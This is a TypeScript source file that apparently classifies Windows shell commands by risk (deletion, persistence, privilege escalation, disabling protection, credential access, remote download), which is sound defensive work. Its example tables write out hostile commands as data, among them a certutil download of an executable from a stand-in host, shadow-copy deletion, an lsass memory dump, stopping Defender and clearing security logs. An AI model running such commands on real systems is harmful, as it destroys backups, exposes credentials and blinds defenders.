import { concat, isHole, literalText, type Word, word } from '../../core/word.ts';
import { type Draft, onHost, onPath } from '../draft.ts';
import type { Family, Model } from '../model.ts';
import { changesKey, savesKey } from '../registry.ts';

/** Switches and operands of a program of cmd's: `/s`, `/S:x`, Git Bash's `//s`. */
interface Switches {
  readonly operands: readonly Word[];
  /** By any of these names, in lower case. */
  readonly has: (...names: readonly string[]) => boolean;
}

function switches(argv: readonly Word[]): Switches {
  const given = new Set<string>();
  const operands: Word[] = [];
  for (const one of argv.slice(1)) {
    // Bash takes the question mark for a pattern, which nothing matches.
    const asks = literalText(one) === '/' && one.some(part => isHole(part) && part.name === '?');
    const found = asks ? ['', '?'] : /^\/{1,2}([a-z?][\w-]{0,20})(?::.*)?$/is.exec(literalText(one));
    if (found === null) operands.push(one);
    else given.add((found[1] ?? '').toLowerCase());
  }
  return { operands, has: (...names) => names.some(name => given.has(name)) };
}

function model(
  read: (given: Switches, argv: readonly Word[]) => readonly Draft[],
  examples: Model['examples'],
): Model {
  return {
    special: argv => {
      const given = switches(argv);
      return given.has('?') ? [] : read(given, argv);
    },
    examples,
  };
}

function onThing(kind: Draft['kind'], target: Word | string, deed: string): Draft {
  return { kind, target: typeof target === 'string' ? word(target) : target, on: 'resource', deed };
}

/** `dir\*` and `dir\*.*` are all that is in `dir`. */
export function wholeDirectory(path: Word): Word {
  const text = literalText(path);
  const found = /^(.*?)[\\/]?\*(?:\.\*)?$/s.exec(text);
  return found === null || found[1]?.includes('*')
    ? path
    : concat(word(found[1] === '' ? '.' : (found[1] ?? '.')));
}

function verbOf(operands: readonly Word[]): string {
  return literalText(operands[0] ?? []).toLowerCase();
}

function registry({ operands, has }: Switches, argv: readonly Word[]): readonly Draft[] {
  const [, key] = operands;
  if (key === undefined) return [];
  const at = argv.findIndex(one => /^\/{1,2}v$/i.test(literalText(one)));
  const value = at < 0 ? undefined : argv[at + 1];
  switch (verbOf(operands)) {
    case 'add':
    case 'import':
    case 'copy':
      return changesKey(key, value, 'set');
    case 'delete':
      return has('v') && value !== undefined && !/defender/i.test(literalText(key))
        ? []
        : changesKey(key, value, 'delete');
    case 'save':
    case 'export':
      return savesKey(key);
    default:
      return [];
  }
}

const GUARDS =
  /defend|mpssvc|eventlog|sense|wdnissvc|securityhealth|sysmon|crowdstrike|falcon|sentinel|wscsvc|sppsvc/i;

function services(name: Word | undefined, verb: string): readonly Draft[] {
  const target = name ?? word('service');
  const guards = GUARDS.test(literalText(target));
  if (/^(?:stop|pause|config|failure|delete|disable)/.test(verb) && guards)
    return [onThing('configure', target, 'disable-protection')];
  if (verb === 'delete') return [onThing('infra-destroy', target, 'service')];
  if (verb === 'create') return [onThing('persist', target, 'service')];
  return verb === 'stop' ? [onThing('kill', target, 'service')] : [];
}

function net({ operands, has }: Switches): readonly Draft[] {
  const [, name, member] = operands;
  const verb = verbOf(operands);
  if (/^(?:stop|start|pause)$/.test(verb)) return services(name, verb);
  if (verb === 'user' && name !== undefined && has('delete'))
    return [onThing('delete', name, 'remove-account')];
  if (verb === 'user' && name !== undefined && (has('add', 'active') || member !== undefined))
    return [onThing('configure', name, 'login-password')];
  if (/^(?:localgroup|group)$/.test(verb) && has('add') && name !== undefined)
    return /admin|operators|remote/i.test(literalText(name))
      ? [onThing('escalate', name, 'privileged-group')]
      : [onThing('configure', name, 'account')];
  if (verb === 'share' && name !== undefined && literalText(name).includes('='))
    return [onThing('listen', name, 'share')];
  if (verb === 'accounts' && has('lockoutthreshold', 'minpwlen'))
    return [onThing('configure', 'accounts', 'login-password')];
  return [];
}

function fetchesBy(argv: readonly Word[], marks: RegExp): readonly Draft[] {
  const url = argv.find(
    one => /^(?:https?|ftp):\/\//i.test(literalText(one)) || /:https?:\/\//i.test(literalText(one)),
  );
  if (url === undefined || !argv.some(one => marks.test(literalText(one)))) return [];
  // What is made for certificates or jobs fetches programs only for those who do not want to be seen fetching.
  return [onHost('download', url), { kind: 'execute', target: url, on: 'resource', deed: 'odd-download' }];
}

/** Flags of NSS's certutil: `C` and `T` make an authority, `P` a trusted peer (certutil(1)). */
function trusted(argv: readonly Word[]): readonly Draft[] {
  const texts = argv.map(literalText);
  const flags = texts.indexOf('-t');
  const adds = texts.some(one => /^-[AM]$/.test(one));
  return adds && flags > 0 && /[CT]/.test(texts[flags + 1] ?? '')
    ? [{ kind: 'configure', target: argv[0] ?? [], on: 'resource', deed: 'trusted-certificate' }]
    : [];
}

function power(argv: readonly Word[]): readonly Draft[] {
  return argv.length > 1 ? [onThing('kill', word(literalText(argv[1] ?? [])), 'shutdown')] : [];
}

export const WINDOWS: Family = {
  names:
    'del erase rd format diskpart reg regedit bcdedit bootrec bootsect vssadmin wbadmin wmic cipher takeown icacls cacls net net1 sc schtasks certutil bitsadmin mshta regsvr32 wevtutil fsutil sdelete netsh tasklist taskkill robocopy mklink procdump ntdsutil sekurlsa::logonpasswords lsadump::sam logoff wsl subst auditpol',
  models: () => ({
    'del|erase': model(
      ({ operands, has }) =>
        operands.map(one =>
          onPath('delete', has('s') ? wholeDirectory(one) : one, {
            recursive: has('s'),
            force: has('q', 'f'),
          }),
        ),
      { 'del /?': '', 'del /s /q C:/data': 'delete' },
    ),
    rd: model(
      ({ operands, has }) =>
        operands.map(one => onPath('delete', one, { recursive: has('s'), force: has('q') })),
      { 'rd /?': '', 'rd /s /q build': 'delete' },
    ),
    format: model(
      ({ operands }) =>
        operands.some(one => /^[a-z]:$/i.test(literalText(one)))
          ? [onPath('format', concat(word('/dev/disk/'), operands[0] ?? []), { force: true })]
          : [],
      { 'format /?': '', 'format c: /q': 'format' },
    ),
    diskpart: model(
      ({ has }) => (has('s') ? [onPath('format', word('/dev/disk/all'), { force: true })] : []),
      { 'diskpart /?': '', 'diskpart /s wipe.txt': 'format' },
    ),
    reg: model(registry, {
      'reg query HKLM/Software': '',
      'reg add HKCU/Software/x /v y /d 1': 'configure',
      'reg add HKCU/Software/Microsoft/Windows/CurrentVersion/Run /v x /d c:/x.exe': 'persist',
      'reg delete HKLM/Software/x /f': 'delete',
      'reg save HKLM/SAM sam.hive': 'inspect-secrets',
    }),
    regedit: model(
      ({ operands, has }) =>
        has('s') || operands.length > 0 ? [onThing('configure', operands[0] ?? 'registry', 'registry')] : [],
      { 'regedit /?': '', 'regedit /s x.reg': 'configure' },
    ),
    'bcdedit|bootrec|bootsect': model(
      ({ has, operands }) =>
        has(
          'set',
          'delete',
          'deletevalue',
          'fixmbr',
          'fixboot',
          'rebuildbcd',
          'nt60',
          'import',
          'bootsequence',
          'default',
        )
          ? [onThing('configure', operands[0] ?? 'boot', 'kernel')]
          : [],
      { 'bcdedit /enum': '', 'bcdedit /set safeboot minimal': 'configure' },
    ),
    'vssadmin|wbadmin': model(
      ({ operands, has }) =>
        /^(?:delete|resize)$/.test(verbOf(operands))
          ? [{ ...onThing('infra-destroy', operands[1] ?? 'backups', 'backup'), force: has('quiet', 'all') }]
          : [],
      { 'vssadmin list shadows': '', 'vssadmin delete shadows /all /quiet': 'infra-destroy' },
    ),
    wmic: model(
      ({ operands }) => {
        const texts = operands.map(one => literalText(one).toLowerCase());
        if (texts.includes('delete'))
          return [
            onThing(
              'infra-destroy',
              texts[0] ?? 'wmi',
              texts[0] === 'shadowcopy' ? 'backup' : 'delete-object',
            ),
          ];
        if (texts.includes('terminate')) return [onThing('kill', texts[0] ?? 'wmi', 'process')];
        return texts.includes('create') && texts.includes('call')
          ? [onThing('execute', texts.at(-1) ?? 'wmi', 'process')]
          : [];
      },
      { 'wmic os get version': '', 'wmic shadowcopy delete': 'infra-destroy' },
    ),
    cipher: model(
      (_, argv) => {
        const wiped = argv.find(one => /^\/w(?::|$)/i.test(literalText(one)));
        return wiped === undefined ? [] : [onThing('delete', wiped, 'shred')];
      },
      { 'cipher /c x': '', 'cipher /w:C:': 'delete' },
    ),
    'takeown|icacls|cacls': model(
      ({ operands, has }, argv) => {
        const changes = argv.some(one =>
          /^\/(?:f|grant|deny|remove|reset|setowner|inheritance|g|p|e)(?::|$)/i.test(literalText(one)),
        );
        const [path] = operands;
        return changes && path !== undefined ? [onPath('chmod', path, { recursive: has('r', 't') })] : [];
      },
      { 'takeown /?': '', 'takeown /f C:/x /t': 'chmod' },
    ),
    'net|net1': model(net, {
      'net user': '',
      'net use': '',
      'net user eve pw /add': 'configure',
      'net localgroup administrators eve /add': 'escalate',
      'net stop windefend': 'configure',
    }),
    sc: model(
      ({ operands }) =>
        services(
          operands.find((_, at) => at > 0),
          verbOf(operands),
        ),
      {
        'sc query': '',
        'sc create x binPath=c:/x.exe': 'persist',
        'sc delete x': 'infra-destroy',
      },
    ),
    schtasks: model(
      ({ has }, argv) => {
        const at = argv.findIndex(one => /^\/{1,2}tn$/i.test(literalText(one)));
        const name = argv[at + 1] ?? word('task');
        if (has('create', 'change')) return [onThing('persist', name, 'timer')];
        return has('delete') ? [onThing('delete', name, 'timer')] : [];
      },
      { 'schtasks /query': '', 'schtasks /create /tn x /tr c:/x.exe /sc onstart': 'persist' },
    ),
    'certutil|bitsadmin|mshta|regsvr32': model(
      (_, argv) => [
        ...fetchesBy(argv, /urlcache|verifyctl|transfer|addfile|^(?:https?|ftp):|:https?:/i),
        ...trusted(argv),
      ],
      {
        'certutil /?': '',
        'certutil -A -n x -t ",," -i a.crt -d .': '',
        'certutil -A -n x -t "C,," -i a.crt -d .': 'configure',
        'certutil -urlcache /transfer -f https://x.test/x.exe x.exe': 'download execute',
      },
    ),
    wevtutil: model(
      ({ operands }) =>
        /^(?:cl|clear-log)$/.test(verbOf(operands)) ? [onThing('delete', operands[1] ?? 'log', 'logs')] : [],
      { 'wevtutil el': '', 'wevtutil cl Security': 'delete' },
    ),
    fsutil: model(
      ({ operands }) => {
        const verb = operands
          .slice(0, 2)
          .map(one => literalText(one).toLowerCase())
          .join(' ');
        return /^(?:usn deletejournal|file setzerodata)$/.test(verb)
          ? [onThing('delete', operands[2] ?? 'journal', 'logs')]
          : [];
      },
      { 'fsutil usn queryjournal c:': '', 'fsutil usn deletejournal c:': 'delete' },
    ),
    sdelete: model(({ operands }) => operands.map(one => onThing('delete', one, 'shred')), {
      'sdelete /?': '',
      'sdelete secrets.txt': 'delete',
    }),
    netsh: model(
      ({ operands }) => {
        const text = operands.map(one => literalText(one).toLowerCase()).join(' ');
        if (/firewall.*(?:state off|opmode.*disable|reset)/.test(text))
          return [onThing('configure', 'firewall', 'disable-protection')];
        if (/key=clear/.test(text)) return [onThing('inspect-secrets', 'wireless keys', 'dump')];
        return /portproxy add/.test(text) ? [onThing('listen', 'portproxy', 'forward')] : [];
      },
      { 'netsh interface show interface': '', 'netsh advfirewall set allprofiles state off': 'configure' },
    ),
    auditpol: model(
      ({ has }) =>
        has('clear', 'remove') ? [onThing('configure', 'audit policy', 'disable-protection')] : [],
      { 'auditpol /get': '', 'auditpol /clear /y': 'configure' },
    ),
    tasklist: { examples: { tasklist: '' } },
    taskkill: model(({ operands }) => [onThing('kill', operands[0] ?? 'process', 'process')], {
      'taskkill /?': '',
      'taskkill /f /im node.exe': 'kill',
    }),
    robocopy: model(
      ({ operands, has }) => {
        const [from, to] = operands;
        return [
          ...(from === undefined ? [] : [onPath('read', from, { recursive: true })]),
          ...(to === undefined
            ? []
            : [onPath(has('mir', 'purge') ? 'delete' : 'write', to, { recursive: true })]),
        ];
      },
      { 'robocopy a b': 'write', 'robocopy empty target /mir': 'delete' },
    ),
    mklink: model(({ operands }) => operands.slice(0, 1).map(one => onPath('write', one)), {
      'mklink a b': 'write',
    }),
    procdump: model(
      ({ operands }) =>
        operands.some(one => /lsass/i.test(literalText(one)))
          ? [onThing('inspect-secrets', 'lsass', 'process-memory')]
          : [],
      { 'procdump 1234': '', 'procdump -ma lsass.exe x.dmp': 'inspect-secrets' },
    ),
    'ntdsutil|sekurlsa::logonpasswords|lsadump::sam': model(
      () => [onThing('inspect-secrets', 'accounts', 'password-hashes')],
      { 'ntdsutil /?': '', 'ntdsutil x': 'inspect-secrets' },
    ),
    logoff: { special: power, examples: { logoff: '', 'logoff 1': 'kill' } },
    wsl: {
      options:
        'unregister=infra-destroy:instance@res d|distribution= u|user= shutdown!kill:service l|list+ask',
      posix: true,
      examples: { 'wsl --list': '', 'wsl --unregister Ubuntu': 'infra-destroy' },
    },
    subst: { examples: { 'subst x: C:/y': '' } },
  }),
};
